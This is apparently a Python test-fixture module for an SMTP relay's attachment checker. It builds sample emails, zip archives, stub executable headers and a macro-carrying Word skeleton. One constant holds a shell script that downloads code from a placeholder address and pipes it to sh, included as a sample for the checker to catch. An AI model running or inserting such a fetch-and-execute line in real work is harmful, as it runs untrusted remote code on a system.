"""Plain-data building blocks for the content-check tests: messages, archives, executables, documents."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from email.policy import SMTP

from smtp_relay.config.policy_spec import AttachmentsSpec
from smtp_relay.policy.attachments import AttachmentFinding, inspect_attachments

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(13) + b"\x00\x00\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(60)
SHEBANG = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"
OLE2_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def pe_executable() -> bytes:
    """A minimal PE header: MZ, e_lfanew at 0x3C pointing at "PE\\0\\0"."""
    head = bytearray(b"MZ" + bytes(0x3A))
    head += (0x40).to_bytes(4, "little")
    return bytes(head) + b"PE\x00\x00" + bytes(64)


def ole2_document(*stream_names: str) -> bytes:
    """An OLE2 file whose directory holds the given entry names (UTF-16LE, as in a real compound file)."""
    body = b"".join(name.encode("utf-16-le") + b"\x00\x00" + bytes(60) for name in stream_names)
    return OLE2_HEADER + b"R\x00o\x00o\x00t\x00 \x00E\x00n\x00t\x00r\x00y\x00" + body


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ooxml(macro: bool) -> bytes:
    """A Word document skeleton; with macro=True it carries word/vbaProject.bin like a .docm."""
    members = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    if macro:
        members["word/vbaProject.bin"] = ole2_document("_VBA_PROJECT", "dir")
    return zip_of(members)


def message(*attachments: tuple[str, bytes], body: str = "Hello,\nsee attached.\n") -> bytes:
    """A well-formed message with the given (filename, content) attachments, base64-encoded."""
    msg = EmailMessage()
    msg["From"] = "Ann <ann@example.com>"
    msg["To"] = "bob@example.net"
    msg["Subject"] = "Quarterly figures"
    msg["Date"] = "Sat, 28 Nov 2026 10:00:00 +0000"
    msg["Message-ID"] = "<figures.1@example.com>"
    msg.set_content(body)
    for filename, content in attachments:
        msg.add_attachment(content, maintype="application", subtype="octet-stream", filename=filename)
    return msg.as_bytes(policy=SMTP)


def raw_attachment_message(part_headers: str, payload_b64: str) -> bytes:
    """A multipart message whose attachment headers are written verbatim (for encodings the builder avoids)."""
    return (
        "From: ann@example.com\r\nTo: bob@example.net\r\nSubject: files\r\n"
        "Date: Sat, 28 Nov 2026 10:00:00 +0000\r\nMessage-ID: <raw.1@example.com>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="BOUNDARY"\r\n\r\n'
        "--BOUNDARY\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        f"--BOUNDARY\r\n{part_headers}\r\nContent-Transfer-Encoding: base64\r\n\r\n{payload_b64}\r\n"
        "--BOUNDARY--\r\n"
    ).encode()


SPEC = AttachmentsSpec()
"""The attachment policy as a spec that does not mention it gets it."""


def check(data: bytes, spec: AttachmentsSpec = SPEC) -> AttachmentFinding | None:
    """The attachment check's finding for one message (None: it passes)."""
    return inspect_attachments(data, spec)
